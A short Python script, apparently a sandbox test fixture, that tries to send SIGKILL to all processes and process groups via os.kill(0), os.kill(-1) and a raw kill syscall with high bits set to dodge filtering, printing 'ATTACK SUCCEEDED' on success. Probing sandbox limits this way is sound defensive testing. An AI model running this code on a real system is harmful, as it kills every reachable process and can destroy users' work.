# ruff: noqa
# ends: no_figure
"""Signals to everyone: kill(0), kill(-1), killpg."""

import ctypes
import os

for pid in (0, -1, -os.getpid(), -os.getppid(), -os.getpgrp()):
    try:
        os.kill(pid, 9)
        print("ATTACK SUCCEEDED:", pid)
    except OSError as error:
        print(error)
libc = ctypes.CDLL(None, use_errno=True)
for high in (1 << 32, 0xFFFFFFFF << 32):
    for pid in (0, os.getppid(), os.getpid()):
        if libc.syscall(62, ctypes.c_ulong(high | pid), ctypes.c_ulong(high | 9)) == 0:
            print("ATTACK SUCCEEDED: high bits", pid)
